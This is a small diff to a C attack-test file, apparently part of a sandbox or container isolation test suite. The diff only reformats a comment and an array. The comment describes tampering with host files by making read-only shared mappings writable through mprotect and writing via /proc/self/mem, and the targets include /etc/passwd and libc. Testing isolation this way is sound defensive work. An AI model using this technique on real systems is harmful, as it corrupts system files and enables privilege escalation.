@@ -1,12 +1,13 @@
 /* class: filesystem
- * what: turns a shared read-only mapping of a host file writable with mprotect, and writes to it through /proc/self/mem (the byte it has)
+ * what: turns a shared read-only mapping of a host file writable with mprotect, and writes to it through /proc/self/mem
+ * (the byte it has)
  */
 #include "attack.h"
 
 int main(int argc, char **argv)
 {
     (void)argc;
-    const char *files[] = {"/attack/params", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/passwd", argv[0]};
+    const char *files[] = { "/attack/params", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/etc/passwd", argv[0] };
     for (size_t i = 0; i < 4; i++) {
         int fd = open(files[i], O_RDONLY | O_CLOEXEC);
         if (fd < 0)
